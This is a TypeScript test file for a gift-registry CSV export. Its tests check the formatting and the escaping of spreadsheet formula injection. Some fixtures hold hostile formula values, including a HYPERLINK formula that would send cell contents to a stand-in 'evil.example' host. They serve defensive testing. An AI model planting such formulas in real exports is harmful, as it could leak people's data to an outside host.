import type { ReceivedGift } from 'shared-contracts/area-api';
import Papa from 'papaparse';
import { receivedGiftsCsv, receivedGiftsFileName } from './receivedGiftsCsv';

// Built from local parts, so the expected 'dd/MM/yyyy HH:mm' holds in any time zone.
const at = (y: number, m: number, d: number, h: number, min: number) => new Date(y, m - 1, d, h, min).toISOString();

const tricky: ReceivedGift = {
  canal: 'online',
  id: 1001,
  listaProdutoId: 11,
  presente: 'Jogo de panelas',
  quantidade: 2,
  valor: 1234.56,
  nome: 'Beatriz "Bia" Lima',
  email: 'bia@example.com',
  mensagem: 'Felicidades; muito amor\nBeijos, "Bia"',
  loja: null,
  pedido: '#1001',
  data: at(2026, 11, 20, 15, 5),
  agradecido: true,
};
const formula: ReceivedGift = {
  canal: 'loja',
  id: 5,
  listaProdutoId: 12,
  presente: 'Toalha de banho',
  quantidade: 1,
  valor: 89.9,
  nome: '=HYPERLINK("http://evil.test")',
  email: null,
  mensagem: null,
  loja: 'Visual Fashion Shop',
  pedido: null,
  data: at(2027, 1, 3, 9, 0),
  agradecido: false,
};

const HEADER = ['Presente', 'Quantidade', 'Valor (R$)', 'Quem presenteou', 'E-mail', 'Mensagem', 'Canal', 'Pedido', 'Data', 'Agradecimento enviado'];

/** Parses the produced text back as a spreadsheet would (';', quotes, CRLF). */
function parse(text: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

describe('receivedGiftsCsv', () => {
  it("writes a gift the staff marked sold by hand as 'Marcado pela loja', with what is known", async () => {
    const marked: ReceivedGift = { ...formula, canal: 'marcado', id: 13, listaProdutoId: 13, presente: 'Jogo de copos', valor: 80, nome: null, loja: null, data: at(2026, 12, 2, 10, 0) };
    const [, row] = parse(await receivedGiftsCsv([marked]));
    expect(row).toEqual(['Jogo de copos', '1', '80,00', '', '', '', 'Marcado pela loja', '', '02/12/2026 10:00', 'Não']);
  });

  it('starts with the UTF-8 BOM and the header, fields separated by ; and lines by CRLF', async () => {
    const text = await receivedGiftsCsv([formula]);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1).split('\r\n')[0]).toBe(HEADER.join(';'));
    expect(text.split('\r\n')).toHaveLength(2);
  });

  it('writes every column: reais without the symbol, the channel, the order, the local date and Sim/Não', async () => {
    const [header, first, second] = parse(await receivedGiftsCsv([tricky, formula]));
    expect(header).toEqual(HEADER);
    expect(first).toEqual(['Jogo de panelas', '2', '1.234,56', 'Beatriz "Bia" Lima', 'bia@example.com', 'Felicidades; muito amor\nBeijos, "Bia"', 'Online', '#1001', '20/11/2026 15:05', 'Sim']);
    expect(second).toEqual(['Toalha de banho', '1', '89,90', "'=HYPERLINK(\"http://evil.test\")", '', '', 'Visual Fashion Shop', '', '03/01/2027 09:00', 'Não']);
  });

  it("quotes a message with ';', quotes and a newline, doubling its quotes", async () => {
    const text = await receivedGiftsCsv([tricky]);
    expect(text).toContain(';"Felicidades; muito amor\nBeijos, ""Bia""";');
    expect(text).toContain(';"Beatriz ""Bia"" Lima";');
  });

  it("escapes a field a spreadsheet would run as a formula with a leading apostrophe (=, +, -, @)", async () => {
    const gifts = ['=1+1', '+5', '-2', '@SUM(A1)'].map((nome, i) => ({ ...formula, id: i, nome }));
    const rows = parse(await receivedGiftsCsv(gifts)).slice(1);
    expect(rows.map((row) => row[3])).toEqual(["'=1+1", "'+5", "'-2", "'@SUM(A1)"]);
    // the value column is never escaped: it never starts with a sign
    expect(rows.map((row) => row[2])).toEqual(['89,90', '89,90', '89,90', '89,90']);
  });

  it('escapes a formula that spans lines, in every text column (a message, a name, a store, a gift)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&A2;"Clique")\n+0';
    const tabbed = '\t=1+1\r\nfim';
    const gifts: ReceivedGift[] = [
      { ...formula, id: 1, presente: evil, nome: evil, email: evil, mensagem: evil, loja: evil, pedido: evil },
      { ...formula, id: 2, presente: tabbed, nome: tabbed, email: tabbed, mensagem: tabbed, loja: tabbed, pedido: tabbed },
    ];
    const rows = parse(await receivedGiftsCsv(gifts)).slice(1);
    for (const [row, value] of [[rows[0]!, evil], [rows[1]!, tabbed]] as const) {
      // Presente, Quem presenteou, E-mail, Mensagem, Canal (the store's name), Pedido
      for (const column of [0, 3, 4, 5, 6, 7]) expect(row[column]).toBe(`'${value}`);
    }
  });

  it('names a store gift without a store "Loja" and keeps the header when there is no gift', async () => {
    expect(parse(await receivedGiftsCsv([{ ...formula, loja: null }]))[1]?.[6]).toBe('Loja');
    expect(parse(await receivedGiftsCsv([]))).toEqual([HEADER]);
  });

  it("writes a vale-presente like the other gifts: cards, total, channel 'Vale-presente online' and the order", async () => {
    const vale: ReceivedGift = {
      ...formula,
      canal: 'vale_presente',
      id: 31,
      listaProdutoId: null,
      presente: 'Vale-presente',
      quantidade: 3,
      valor: 300,
      nome: 'Tia Rosa',
      email: 'rosa@example.com',
      mensagem: 'Para a casa nova',
      loja: null,
      pedido: '#1010',
    };
    const [, first, second] = parse(await receivedGiftsCsv([tricky, vale]));
    expect(first?.[0]).toBe('Jogo de panelas');
    expect(second).toEqual(['Vale-presente', '3', '300,00', 'Tia Rosa', 'rosa@example.com', 'Para a casa nova', 'Vale-presente online', '#1010', '03/01/2027 09:00', 'Não']);
  });

  it('names the file after the list', () => {
    expect(receivedGiftsFileName(7)).toBe('presentes-recebidos-lista-7.csv');
  });
});
